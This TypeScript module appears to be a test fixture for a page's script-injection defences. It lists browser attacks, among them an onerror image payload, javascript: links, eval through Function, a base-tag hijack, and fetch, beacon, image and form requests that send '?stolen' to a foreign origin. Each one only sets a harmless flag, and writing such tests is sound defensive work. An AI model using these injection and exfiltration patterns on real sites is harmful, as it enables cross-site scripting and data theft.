/**
 * What somebody might try who has smuggled something into a page. Each runs in the page, sets `attacked` when it has
 * its way, and may throw when it has not. `foreign` is the address of another origin that lets everybody read it.
 */
type Attack = (foreign: string) => unknown;

declare global {
  var attacked: boolean | undefined;
}

export const attacks: Readonly<Record<string, Attack>> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('globalThis.attacked = true');
    document.body.append(script);
  },
  'markup from a string': () => {
    const part = document.createElement('div');
    part.innerHTML = '<img src="" onerror="globalThis.attacked = true">';
    document.body.append(part);
  },
  'a handler in an attribute': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.attacked = true');
    button.click();
  },
  'a javascript: link': () => {
    const link = document.createElement('a');
    link.setAttribute('href', 'javascript:void(globalThis.attacked = true)');
    document.body.append(link);
    link.click();
  },
  'code in a string': () => {
    // Not at once: what a test evaluates may use eval itself.
    setTimeout(() => Function('globalThis.attacked = true')(), 0);
  },
  'a script of another site': (foreign) => {
    const script = document.createElement('script');
    Reflect.set(script, 'src', `${foreign}attack.js`);
    document.body.append(script);
  },
  'another script of this site as a worker': () => {
    new Worker(document.scripts[1]?.src ?? '');
    globalThis.attacked = true;
  },
  'a policy of its own': () => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): void };
    };
    trustedTypes.createPolicy('attack', { createHTML: (it: string) => it });
    globalThis.attacked = true;
  },
  'another home for all addresses': (foreign) => {
    const base = document.createElement('base');
    base.href = foreign;
    document.head.append(base);
    globalThis.attacked = document.baseURI === foreign;
  },
  'sending something to another site': async (foreign) => {
    await fetch(`${foreign}?stolen`);
    globalThis.attacked = true;
  },
  'sending something on the way out': (foreign) => {
    navigator.sendBeacon(`${foreign}?stolen`);
  },
  'sending something in the address of a picture': (foreign) => {
    new Image().src = `${foreign}?stolen`;
  },
  'sending a form': (foreign) => {
    const form = document.createElement('form');
    form.action = `${foreign}?stolen`;
    document.body.append(form);
    form.submit();
  },
  'a frame of another site': (foreign) => {
    const frame = document.createElement('iframe');
    frame.src = `${foreign}?framed`;
    document.body.append(frame);
  },
  'a style in an attribute': () => {
    const part = document.createElement('p');
    part.setAttribute('style', 'color: red');
    globalThis.attacked = part.style.color === 'red';
  },
  'a style sheet in the page': () => {
    const sheet = document.createElement('style');
    sheet.append(':root { --attacked: 1 }');
    document.head.append(sheet);
    const value = getComputedStyle(document.documentElement).getPropertyValue('--attacked');
    globalThis.attacked = value !== '';
  },
};
